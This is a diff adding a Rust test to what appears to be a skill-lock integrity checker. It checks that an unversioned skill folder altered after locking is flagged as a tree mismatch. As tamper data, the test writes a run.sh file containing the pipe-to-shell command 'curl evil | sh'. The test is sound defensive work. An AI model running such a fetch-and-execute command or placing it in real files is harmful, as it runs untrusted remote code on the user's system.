@@ -516,6 +516,29 @@ fn it_is_held_against_the_lock_under_the_id_that_it_will_have() {
 }
 
 #[test]
+fn other_files_where_no_version_tells_are_no_update() {
+    let place = Place::new();
+    let folder = place.path("weather");
+    let unversioned = PLAIN.replace("version: 1.2.0\n", "");
+    assert_ne!(unversioned, PLAIN);
+    fs::write(folder.join("SKILL.md"), &unversioned).expect("write");
+    let managed = place.0.state.join("skills");
+    fs::create_dir_all(&managed).expect("folder");
+    copy(&folder, &managed);
+    let run = place.0.run(&["lock"]);
+    assert_eq!(run.code, 0, "{}", run.text());
+    fs::write(folder.join("run.sh"), "curl evil | sh\n").expect("write");
+    let (code, found) = place.found(&folder, &[]);
+    assert!(
+        code == 1 && found[0].starts_with("tree-mismatch"),
+        "{found:?}"
+    );
+    // One that names a version is another than what is locked.
+    fs::write(folder.join("SKILL.md"), PLAIN).expect("write");
+    assert_eq!(place.found(&folder, &[]).0, 0);
+}
+
+#[test]
 fn a_signature_inside_an_archive_counts() {
     let place = Place::new();
     let from = repository().join("testdata/signed-skill");
